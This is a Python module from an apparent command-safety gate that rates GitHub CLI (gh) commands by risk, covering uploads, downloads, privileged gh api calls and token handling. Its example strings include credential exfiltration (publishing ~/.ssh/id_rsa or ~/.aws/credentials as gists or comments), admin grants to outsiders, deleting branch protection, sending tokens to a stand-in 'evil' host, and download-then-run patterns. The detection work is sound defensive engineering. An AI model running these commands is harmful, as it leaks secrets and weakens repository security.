"""GitHub's gh: its verbs, what they send (files, bodies, releases) and fetch, and gh api's privileged calls."""
from __future__ import annotations

import os

from wispsh.programs.grammar import UNKNOWN
from wispsh.programs.network import shown
from wispsh.programs.sources import project_names
from wispsh.programs.table import Command, Grammar, Program, Row, When, emits, programs, verb
from wispsh.support.lazyre import lazy_re, re

# ---------------------------------------------------------------- GitHub: gh

GH_OPTIONS = Grammar(values="RbtFqTlamBHprdnfeAsSwLiuocjJgkDO",
                     long_values=("repo", "body", "title", "body-file", "jq", "template", "label", "assignee",
                                  "milestone", "base", "head", "project", "reviewer", "desc", "filename", "notes",
                                  "notes-file", "json", "limit", "state", "search", "author", "env-file", "env",
                                  "org", "visibility", "hostname", "scopes", "add", "remove", "target", "branch",
                                  "workflow", "name", "user", "app", "description", "homepage", "source", "remote",
                                  "discussion-category", "ref", "key", "value", "dir", "pattern", "output",
                                  "commit", "machine", "codespace", "type", "title", "recover"))


def _sends_files(cmd, o, names) -> None:
    for word in o.all(*names):
        cmd.fired.add("gh.body-file")
        cmd.send(word, "publishes")


BODY_FILE_EXAMPLES = {"gh.body-file": ["gh issue create -t x -F notes.md", "gh pr comment 1 --body-file ~/.ssh/id_rsa",
                                        "gh gist edit 1 -a ~/.aws/credentials", "gh secret set X -f .env"]}


def _group_files(files, own, examples=None) -> object:
    """A group's hook: for a verb only its default row describes, read the verb's own options and send the
    files they name (`gh issue create -F F`, `gh secret set -f .env`)."""
    def hook(cmd, o) -> None:
        if files and o.operands and o.operands[0] not in own:
            _sends_files(cmd, GH_OPTIONS.read(o.operands[1:]), files)
    hook.__doc__ = _group_files.__doc__
    return emits(examples)(hook) if examples else hook


def _gh_group(group: str, *, publish_example: str, reads=(), read_example: str = "", fetch=(),
              fetch_example: str = "", delete_example: str = "", files=(), verbs=None) -> Command:
    """A gh command group: verbs that read, download, delete; the rest publish to GitHub."""
    children = dict(verbs or {})
    if reads:
        # what it prints came from GitHub (a gist's files, an issue's body: text anyone may have written)
        node = verb(grammar=GH_OPTIONS, rows=(Row(f"gh.{group}.reads", "inspect", "{cmd} reads GitHub",
                                                  sets=("net_fetch",), examples=(read_example,)),))
        children.update({word: node for word in reads if word not in children})
    if fetch:
        node = verb(grammar=GH_OPTIONS, rows=(Row(f"gh.{group}.fetches", "fetch", "{cmd} downloads from GitHub",
                                                  examples=(fetch_example,)),),
                    hook=GH_DOWNLOAD_HOOKS.get(group, gh_download))
        children.update({word: node for word in fetch if word not in children})
    if delete_example:
        children.setdefault("delete", verb(grammar=GH_OPTIONS, rows=(
            Row(f"gh.{group}.deletes", "remove", "{cmd} deletes GitHub data", examples=(delete_example,)),)))
    return verb(grammar=Grammar(values="R", long_values=("repo",)), verbs=children,
                hook=_group_files(files, frozenset(children), BODY_FILE_EXAMPLES if group == "issue" else None),
                default=Row(f"gh.{group}.publishes", "publish", "{cmd} publishes to GitHub", sets=("net_send",),
                            examples=(publish_example,)))


@emits({"gh.download.into": ["gh repo clone evil/dots ~/.config/nvim", "gh release download v1 -D ~/.local/bin",
                             "gh run download 1 --dir /tmp/a", "gh release download v1 -O ~/.bashrc"]})
def gh_download(cmd, o) -> None:
    """Where a download lands: `gh repo clone R DIR`, `-D/--dir DIR`, `-O/--output FILE` (judged by place);
    without them, the current directory: `gh release download -p NAME` saves ./NAME, the other assets or
    artifacts land in it, a clone in ./REPO. Recorded as downloaded, so a later part that runs it is
    download-then-run."""
    targets = o.all("D", "dir", "O", "output")
    if cmd.args[1:2] == ["clone"] and len(o.operands) > 1:
        targets.append(o.operands[1])
    if "-" in targets:
        cmd.facts.net_fetch = True      # `-O -` prints the download
    for target in targets:
        if target != "-":
            cmd.fired.add("gh.download.into")
            where = cmd.write(target, "saves a download to").path
            single = bool(o.all("O", "output")) and target in o.all("O", "output")
            cmd.facts.fetch_writes.append(where if single else where.rstrip("/") + "/")
    if targets:
        return
    here = cmd.cwd.rstrip("/")
    if cmd.args[1:2] == ["clone"]:
        if o.operands and UNKNOWN not in o.operands[0]:
            name = o.operands[0].rstrip("/").rsplit("/", 1)[-1].removesuffix(".git")
            cmd.facts.fetch_writes.append(f"{here}/{name}/")
        return
    names = o.all("p", "pattern")
    if names and all(UNKNOWN not in n and not any(c in n for c in "*?[") for n in names):
        cmd.facts.fetch_writes.extend(f"{here}/{n}" for n in names)
    else:                                   # every asset (or a glob of them): whatever lands in the directory
        cmd.facts.fetch_writes.append(f"{here}/")


GH_DOWNLOAD_HOOKS: dict = {}


@emits({"gh.gist.create": ["gh gist create notes.txt", "gh gist create ~/.ssh/id_rsa", "echo hi | gh gist create -"]})
def gist_create(cmd, o) -> None:
    """`gh gist create FILE…` publishes each file (`-`, or no file at all: its input)."""
    cmd.does("publish", "gh.gist.create", "gh gist create publishes files as a gist")
    for word in o.operands or ["-"]:
        cmd.send(word, "publishes")


@emits({"gh.release.files": ["gh release upload v1 dist/x.tar.gz", "gh release create v1 ./dist/x"]})
def release_files(cmd, o) -> None:
    """`gh release create TAG FILE…`, `gh release upload TAG FILE…`: the files are published."""
    _sends_files(cmd, o, ("F", "notes-file"))
    for word in o.operands[1:]:
        cmd.fired.add("gh.release.files")
        cmd.send(word, "publishes")


@emits({"gh.repo.visibility": ["gh repo edit --visibility public", "gh repo edit o/r --visibility=internal"]})
def repo_visibility(cmd, o) -> None:
    if (o.value("visibility") or "").lower() in ("public", "internal"):
        cmd.does("leak", "gh.repo.visibility", "makes a repository's contents visible to others")


GH_API = Grammar(values="XfFHpqt", long_values=("method", "raw-field", "field", "header", "preview", "jq", "template",
                                                "input", "hostname", "cache"))

# Endpoints that mint a credential (runner registration, app installation tokens, keys that sign in), that grant
# access to people or teams, and that take away a branch's protection.
GH_API_MINTS = lazy_re(r"(?:^|/)actions/runners/(?:registration-token|remove-token|generate-jitconfig)$"
                       r"|^app/installations/[^/]+/access_tokens$|^authorizations(?:/|$)"
                       r"|^user/(?:keys|gpg_keys|ssh_signing_keys)$|^repos/[^/]+/[^/]+/keys$")
GH_API_GRANTS = lazy_re(r"^repos/[^/]+/[^/]+/collaborators/[^/]+$|^orgs/[^/]+/(?:memberships|outside_collaborators)/"
                        r"[^/]+$|^(?:orgs/[^/]+/)?teams/[^/]+/(?:memberships/[^/]+|repos/[^/]+/[^/]+)$"
                        r"|^orgs/[^/]+/organization-roles/|^enterprises/[^/]+/")
GH_API_UNPROTECTS = lazy_re(r"^repos/[^/]+/[^/]+/branches/[^/]+/protection(?:/|$)|^(?:repos/[^/]+/[^/]+|orgs/[^/]+)"
                            r"/rulesets/[^/]+$")
GH_ORG_PERMISSION = lazy_re(r"^(?:default_repository_permission=(?:admin|write)|members_can_create_repositories|"
                            r"role=admin)", re.I)


GH_API_PRIVILEGE_EXAMPLES = {
    "gh.api.mints": ["gh api -X POST /orgs/acme/actions/runners/registration-token",
                     "gh api --method POST repos/x/y/keys -f key=ssh-ed25519 -F read_only=false"],
    "gh.api.grants": ["gh api -X PUT repos/acme/api/collaborators/outsider -f permission=admin",
                      "gh api -X PUT orgs/acme/teams/core/repos/acme/api -f permission=admin",
                      "gh api -X PATCH orgs/acme -f default_repository_permission=admin"],
    "gh.api.unprotects": ["gh api -X DELETE repos/acme/api/branches/main/protection",
                          "gh api -X DELETE repos/acme/api/rulesets/42"]}


def gh_api_privilege(cmd, o, method: str, endpoint: str, fields) -> bool:
    """Credentials, access grants and protections: what the API does there is privilege. True when it found one."""
    path = endpoint.lower().split("?", 1)[0]
    if method == "GET":
        return False
    if GH_API_MINTS.search(path):
        cmd.does("credentials", "gh.api.mints", f"gh api {method} {endpoint} mints a credential")
        cmd.facts.secret_source = cmd.facts.secret_source or f"prints a credential it minted ({endpoint})"
    elif method == "DELETE" and GH_API_UNPROTECTS.match(path):
        cmd.does("weaken", "gh.api.unprotects", f"gh api DELETE {endpoint} removes a branch's protection")
    elif method in ("PUT", "POST", "PATCH") and (GH_API_GRANTS.match(path) or re.fullmatch(r"orgs/[^/]+", path) and any(
            GH_ORG_PERMISSION.match(f) for f in fields)):
        cmd.does("privilege", "gh.api.grants", f"gh api {method} {endpoint} grants access to the repository or "
                                               f"organisation")
    else:
        return False
    return True


@emits({"gh.api.reads": ["gh api repos/x/y", "gh api graphql -f query='query { viewer { login } }'"],
        "gh.api.changes": ["gh api --method POST repos/x/y/issues -f title=x",
                           "gh api graphql -f query='mutation { addStar(input: {}) { clientMutationId } }'"],
        "gh.api.delete": ["gh api -X DELETE repos/x/y/issues/comments/1"],
        "gh.api.delete-repo": ["gh api -X DELETE repos/x/y", "gh api --method=delete /repos/x/y"],
        "gh.api.visibility": ["gh api -X PATCH repos/x/y -f private=false"],
        "gh.api.upload": ["gh api repos/x/y -F body=@~/.ssh/id_rsa", "gh api graphql --input q.json"],
        **GH_API_PRIVILEGE_EXAMPLES})
def gh_api(cmd, o) -> None:
    """gh api: the method (given, or POST when fields are), the endpoint, and the files fields read."""
    raw, typed, inputs = o.all("f", "raw-field"), o.all("F", "field"), o.all("input")
    fields = raw + typed
    method = (o.value("X", "method") or ("POST" if fields or inputs else "GET")).upper()
    endpoint = (o.operands[0] if o.operands else "").strip("/")
    for field in typed:
        value = field.split("=", 1)[1] if "=" in field else ""
        if value.startswith("@"):
            cmd.fired.add("gh.api.upload")
            cmd.send(value[1:], "gh api sends")
    for word in inputs:
        cmd.fired.add("gh.api.upload")
        cmd.send(word, "gh api sends")
    if any(f.replace(" ", "").lower() in ("private=false", "visibility=public", "visibility=internal") for f in fields):
        cmd.does("leak", "gh.api.visibility", "makes a repository's contents visible to others")
    if gh_api_privilege(cmd, o, method, endpoint, fields):
        cmd.facts.net_send = True
        return
    if endpoint == "graphql":
        query = " ".join(fields)
        if "mutation" in query or inputs or UNKNOWN in query or "=@" in query:
            cmd.facts.net_send = True
            cmd.does("publish", "gh.api.changes", "gh api graphql sends a mutation (it changes GitHub data)")
        else:
            cmd.facts.net_fetch = True
            cmd.does("inspect", "gh.api.reads", "reads the GitHub API")
    elif method in ("GET", "HEAD"):
        cmd.facts.net_fetch = True      # it prints what it fetched: `gh api …/contents/x --jq .content | base64 -d | sh`
        cmd.does("inspect", "gh.api.reads", "reads the GitHub API")
    elif method == "DELETE":
        cmd.facts.net_send = True
        parts = endpoint.split("/")
        if len(parts) == 3 and parts[0] == "repos" or len(parts) == 2 and parts[0] == "orgs":
            cmd.does("destroy", "gh.api.delete-repo", f"gh api deletes {endpoint} (it cannot be undone)")
        else:
            cmd.does("remove", "gh.api.delete", f"gh api deletes {shown(endpoint) or 'GitHub data'}")
    else:
        cmd.facts.net_send = True
        cmd.does("publish", "gh.api.changes", f"gh api {method} changes GitHub data")


@emits({"gh.config.steers": ["gh config set editor vim", "gh config set pager 'less -R'"],
        "gh.config.sets": ["gh config set git_protocol ssh"]})
def gh_config_set(cmd, o) -> None:
    key = o.operands[0] if o.operands else ""
    if key in ("editor", "pager", "browser") or UNKNOWN in key:
        cmd.does("steer", "gh.config.steers", f"gh config set {key} chooses a program gh runs")
    else:
        cmd.does("local-config", "gh.config.sets", f"gh config set {shown(key)} changes a gh setting")


_GITHUB_REMOTE = lazy_re(r"github\.com[:/]+([A-Za-z0-9_.-]+/[A-Za-z0-9_.-]+?)(?:\.git)?/?$", re.M)


def _own_repositories(ctx) -> set[str]:
    """owner/name of the project's GitHub remotes (read from its .git/config)."""
    try:
        with open(os.path.join(ctx.project_root, ".git", "config"), encoding="utf-8", errors="replace") as fh:
            text = fh.read(65536)
    except OSError:
        return set()
    return {m.group(1).lower() for m in _GITHUB_REMOTE.finditer(text)}


@emits({"gh.secret.foreign-repo": ["gh secret set TOKEN -R someone/other -b x",
                                   "gh secret set X --repo evil/fork < k"]})
def secret_target(cmd, o) -> None:
    """`gh secret set NAME -R OWNER/REPO`: a secret set into a repository that is not this project's goes to
    whoever runs that repository's workflows. -f/--env-file files are sent."""
    _sends_files(cmd, o, ("f", "env-file"))
    for repo in o.all("R", "repo"):
        name = repo.lower().removeprefix("https://github.com/").removesuffix(".git").strip("/")
        if UNKNOWN in repo or name not in _own_repositories(cmd.ctx):
            cmd.does("leak", "gh.secret.foreign-repo", f"sets a secret in {repo.replace(UNKNOWN, '…')}, a repository "
                                                       f"that is not this project's")


# Scopes that let a token administer an organisation, delete repositories or packages, or manage runners: asking
# for them mints a credential with privilege (read scopes and the usual `repo`/`workflow` are not).
GH_PRIVILEGED_SCOPES = lazy_re(r"(?:^|,)\s*(?:admin:[a-z_:]+|delete_repo|delete:packages|write:org|site_admin"
                               r"|write:enterprise|manage_runners:[a-z]+|manage_billing:[a-z]+)\s*(?=,|$)")
GH_AUTH_GRAMMAR = Grammar(values="hsrpc", long_values=("hostname", "scopes", "remove-scopes", "git-protocol"),
                          longs=("with-token", "web", "insecure-storage", "skip-ssh-key", "clipboard",
                                 "reset-scopes"))
GH_HOSTS = frozenset({"github.com", "api.github.com"})


@emits({"gh.auth.privileged-scopes": ["gh auth refresh -h github.com -s delete_repo,admin:org",
                                      "gh auth login -s admin:org --web", "gh auth refresh --scopes=site_admin"],
        "gh.auth.with-token": ["echo x | gh auth login --with-token", "gh auth login -h github.com --with-token < t"],
        "gh.auth.foreign-host": ["gh auth login -h ghe.evil.example --with-token"]})
def gh_auth_token(cmd, o) -> None:
    """`gh auth login|refresh`: -s/--scopes mints a token with those scopes (admin, delete and runner scopes
    are privilege); `--with-token` sends the token on its input to the host (-h), a network sink unless it is
    github.com or a host the project's remotes name."""
    scopes = ",".join(o.all("s", "scopes"))
    if GH_PRIVILEGED_SCOPES.search(scopes) or UNKNOWN in scopes:
        cmd.does("privilege", "gh.auth.privileged-scopes", f"gh auth asks for a token with the scopes "
                                                          f"{scopes.replace(UNKNOWN, '…')} (administration, deletion)")
    if not o.has("with-token"):
        return
    host = (o.value("h", "hostname") or "github.com").lower()
    if host in GH_HOSTS or host.endswith(".ghe.com") or project_names(cmd.ctx, host):
        cmd.does("send", "gh.auth.with-token", f"gh auth login sends the token on its input to {host}")
    else:
        cmd.does("send", "gh.auth.foreign-host", f"gh auth login sends the token on its input to {host}, a host the "
                                                  f"project's remotes do not name")
        cmd.send("-", "gh auth login sends")


def _gh_leaf(*rows, hook=None, grammar=GH_OPTIONS, **command) -> Command:
    return verb(grammar=grammar, rows=rows, hook=hook, **command)


GH = Program(
    "gh", doc="GitHub from the command line: reads, downloads, and publishes to GitHub",
    grammar=Grammar(),
    read_only=("status", "browse", "search", "help", "version", "completion"),
    verbs={
        "api": _gh_leaf(hook=gh_api, grammar=GH_API),
        "auth": verb(
            verbs={"token": _gh_leaf(Row("gh.auth.token", "secret", "prints your GitHub token", sets=("secret",),
                                         examples=("gh auth token",))),
                   "status": _gh_leaf(Row("gh.auth.status-token", "secret", "prints your GitHub token",
                                          When(flag=("t", "show-token")), sets=("secret",),
                                          examples=("gh auth status -t",))),
                   "login": _gh_leaf(Row("gh.auth.login", "local-config", "{cmd} signs gh in (stores a token)",
                                         examples=("gh auth login --web",)), hook=gh_auth_token,
                                     grammar=GH_AUTH_GRAMMAR),
                   "refresh": _gh_leaf(Row("gh.auth.refresh", "local-config", "{cmd} renews your token (and its "
                                           "scopes)", examples=("gh auth refresh -s read:project", "gh auth refresh")),
                                       hook=gh_auth_token, grammar=GH_AUTH_GRAMMAR)},
            default=Row("gh.auth.changes", "local-config", "{cmd} changes how gh signs in",
                        examples=("gh auth setup-git", "gh auth switch"))),
        "pr": _gh_group("pr", reads=("list", "view", "status", "checks", "diff"), read_example="gh pr view 1",
                        publish_example="gh pr create --fill", files=("F", "body-file"),
                        verbs={"checkout": _gh_leaf(Row("gh.pr.checkout", "change", "checks out a pull request here",
                                                        examples=("gh pr checkout 1",)))}),
        "issue": _gh_group("issue", reads=("list", "view", "status"), read_example="gh issue list",
                           publish_example="gh issue create -t x -b y", delete_example="gh issue delete 1",
                           files=("F", "body-file")),
        "repo": _gh_group(
            "repo", reads=("list", "view"), read_example="gh repo view x/y", fetch=("clone",),
            fetch_example="gh repo clone x/y", publish_example="gh repo fork x/y",
            verbs={"delete": _gh_leaf(Row("gh.repo.delete", "destroy", "deletes a repository",
                                          examples=("gh repo delete x/y --yes",))),
                   "archive": _gh_leaf(Row("gh.repo.archive", "destroy", "archives a repository (read-only for all)",
                                           examples=("gh repo archive x/y",))),
                   "edit": _gh_leaf(Row("gh.repo.edit", "publish", "changes a repository's settings",
                                        sets=("net_send",), examples=("gh repo edit --description x",)),
                                    hook=repo_visibility),
                   "set-default": _gh_leaf(Row("gh.repo.set-default", "local-config", "chooses the default repository",
                                               examples=("gh repo set-default x/y",))),
                   "deploy-key": verb(
                       read_only=("list",),
                       verbs={"add": _gh_leaf(Row("gh.repo.deploy-key.add", "credentials",
                                                  "adds a key that can reach the repository",
                                                  examples=("gh repo deploy-key add k.pub",)))},
                       default=Row("gh.repo.deploy-key.change", "remove", "{cmd} changes the repository's deploy keys",
                                   examples=("gh repo deploy-key delete 1",)))}),
        "release": _gh_group(
            "release", reads=("list", "view"), read_example="gh release view v1", fetch=("download",),
            fetch_example="gh release download v1", publish_example="gh release edit v1 --draft=false",
            files=("F", "notes-file"),
            verbs={"create": _gh_leaf(Row("gh.release.create", "publish", "publishes a release", sets=("net_send",),
                                          examples=("gh release create v1",)), hook=release_files),
                   "upload": _gh_leaf(Row("gh.release.upload", "publish", "publishes files to a release",
                                          sets=("net_send",), examples=("gh release upload v1 dist/x.tar.gz",)),
                                      hook=release_files),
                   "delete": _gh_leaf(Row("gh.release.delete", "destroy", "deletes a release",
                                          examples=("gh release delete v1",))),
                   "delete-asset": _gh_leaf(Row("gh.release.delete-asset", "destroy", "deletes a release's file",
                                                examples=("gh release delete-asset v1 x.tgz",)))}),
        "gist": _gh_group(
            "gist", reads=("list", "view"), read_example="gh gist view 1", fetch=("clone",),
            fetch_example="gh gist clone 1", publish_example="gh gist rename 1 a b", delete_example="gh gist delete 1",
            files=("a", "add"),
            verbs={"create": _gh_leaf(hook=gist_create,
                                      grammar=Grammar(values="df", long_values=("desc", "filename"),
                                                      longs=("public", "web")))}),
        "run": _gh_group("run", reads=("list", "view", "watch"), read_example="gh run view 1 --log",
                         fetch=("download",), fetch_example="gh run download 1", publish_example="gh run rerun 1",
                         delete_example="gh run delete 1"),
        "workflow": _gh_group("workflow", reads=("list", "view"), read_example="gh workflow list",
                              publish_example="gh workflow run ci.yml"),
        "secret": _gh_group("secret", reads=("list",), read_example="gh secret list",
                            publish_example="gh secret rotate X", delete_example="gh secret delete X",
                            files=("f", "env-file"),
                            verbs={"set": _gh_leaf(Row("gh.secret.set", "publish", "sets a secret for GitHub Actions",
                                                       sets=("net_send",), examples=("gh secret set TOKEN -b x",)),
                                                   hook=secret_target)}),
        "variable": _gh_group("variable", reads=("list", "get"), read_example="gh variable list",
                              publish_example="gh variable set X -b y", delete_example="gh variable delete X",
                              files=("f", "env-file")),
        "label": _gh_group("label", reads=("list",), read_example="gh label list",
                           publish_example="gh label create bug", delete_example="gh label delete bug"),
        "cache": _gh_group("cache", reads=("list",), read_example="gh cache list",
                           publish_example="gh cache frobnicate", delete_example="gh cache delete 1"),
        "ruleset": _gh_group("ruleset", reads=("list", "view", "check"), read_example="gh ruleset list",
                             publish_example="gh ruleset frobnicate"),
        "project": _gh_group("project", reads=("list", "view", "field-list", "item-list"),
                             read_example="gh project list", publish_example="gh project create --title x",
                             delete_example="gh project delete 1"),
        "org": _gh_group("org", reads=("list",), read_example="gh org list", publish_example="gh org frobnicate"),
        "attestation": _gh_group("attestation", reads=("verify", "trusted-root"),
                                 read_example="gh attestation verify x.tgz -o o", fetch=("download",),
                                 fetch_example="gh attestation download x.tgz -o o",
                                 publish_example="gh attestation frobnicate"),
        "codespace": _gh_group(
            "codespace", reads=("list", "view", "logs", "ports"), read_example="gh codespace list",
            publish_example="gh codespace create", delete_example="gh codespace delete -c x",
            verbs={"ssh": _gh_leaf(Row("gh.codespace.ssh", "remote", "runs commands in a codespace",
                                       sets=("net_send",), examples=("gh codespace ssh",))),
                   "cp": _gh_leaf(Row("gh.codespace.cp", "remote", "copies files to or from a codespace",
                                      sets=("net_send",), examples=("gh codespace cp f remote:/tmp",)))}),
        "extension": verb(
            read_only=("list", "search", "browse"),
            verbs={"install": _gh_leaf(Row("gh.extension.install", "install-outside",
                                           "installs a gh extension from a repository",
                                           examples=("gh extension install owner/gh-ext",))),
                   "upgrade": _gh_leaf(Row("gh.extension.upgrade", "install-outside", "upgrades gh extensions",
                                           examples=("gh extension upgrade --all",))),
                   "exec": _gh_leaf(Row("gh.extension.exec", "run-code", "runs a gh extension",
                                        examples=("gh extension exec ext",)))},
            default=Row("gh.extension.change", "local-config", "{cmd} changes the installed extensions",
                        examples=("gh extension remove ext",))),
        "alias": verb(read_only=("list",),
                      verbs={"set": _gh_leaf(Row("gh.alias.set", "steer", "defines a gh alias (it can run shell code)",
                                                 examples=("gh alias set co 'pr checkout'",))),
                             "import": _gh_leaf(Row("gh.alias.import", "steer",
                                                    "imports gh aliases (they can run shell "
                                                    "code)", examples=("gh alias import a.yml",)))},
                      default=Row("gh.alias.change", "local-config", "{cmd} changes gh aliases",
                                  examples=("gh alias delete co",))),
        "config": verb(read_only=("get", "list"),
                       verbs={"set": _gh_leaf(hook=gh_config_set)},
                       default=Row("gh.config.change", "local-config", "{cmd} changes gh settings",
                                   examples=("gh config clear-cache",))),
        "ssh-key": verb(read_only=("list",),
                        verbs={"add": _gh_leaf(Row("gh.ssh-key.add", "credentials",
                                                   "adds a key that can sign in to your GitHub account",
                                                   examples=("gh ssh-key add ~/.ssh/id_ed25519.pub",)))},
                        default=Row("gh.ssh-key.change", "remove", "{cmd} changes your account's keys",
                                    examples=("gh ssh-key delete 1",))),
        "gpg-key": verb(read_only=("list",),
                        verbs={"add": _gh_leaf(Row("gh.gpg-key.add", "credentials",
                                                   "adds a signing key to your GitHub account",
                                                   examples=("gh gpg-key add k.asc",)))},
                        default=Row("gh.gpg-key.change", "remove", "{cmd} changes your account's keys",
                                    examples=("gh gpg-key delete 1",))),
    },
    default=Row("gh.extension-or-alias", "run-code", "{cmd} is not a gh command the gate knows (an extension or "
                "alias runs code)", sets=("net_send",), examples=("gh frobnicate",)),
    examples={"gh pr list": "low", "gh pr checkout 1": "moderate", "gh pr create --fill": "high",
              "gh gist create ~/.ssh/id_rsa": "dangerous", "gh repo delete x/y --yes": "dangerous",
              "gh api -X DELETE repos/x/y": "dangerous", "gh api repos/x/y": "low", "gh auth status": "safe",
              "gh config set git_protocol ssh": "moderate", "gh status": "safe"},
)



PROGRAMS = programs(GH)
